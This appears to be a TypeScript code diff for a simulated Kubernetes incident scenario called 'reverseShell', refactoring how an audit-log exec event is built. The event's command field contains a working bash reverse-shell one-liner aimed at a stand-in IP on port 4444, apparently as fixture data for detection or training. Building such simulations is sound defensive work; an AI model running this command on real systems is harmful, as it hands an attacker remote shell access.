@@ -1,8 +1,9 @@
 import type { Incident } from '../../shared/model/incident.ts';
+import { timeOf } from '../../shared/model/time.ts';
 import type { KubeCluster } from '../world/kubernetes/cluster.ts';
 import { SHOP } from '../world/seed.ts';
 import { clusterKey, type World } from '../world/world.ts';
-import { execEntry } from './exec-entry.ts';
+import { auditEntry } from './audit-entry.ts';
 import type { Scenario } from './scenario.ts';
 
 const NAMESPACE = 'shop';
@@ -47,12 +48,14 @@ export const reverseShell: Scenario = {
     {
       afterMs: 0,
       topic: 'audit-log',
-      body: execEntry({
-        at: now,
-        cluster: SHOP,
+      body: auditEntry({
+        ...SHOP,
+        at: timeOf(now),
+        verb: 'create',
+        resource: 'pods',
+        subresource: 'exec',
         namespace: NAMESPACE,
-        pod: victimOf(world),
-        principal: 'ana@example.com',
+        name: victimOf(world),
         command: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
       }),
     },
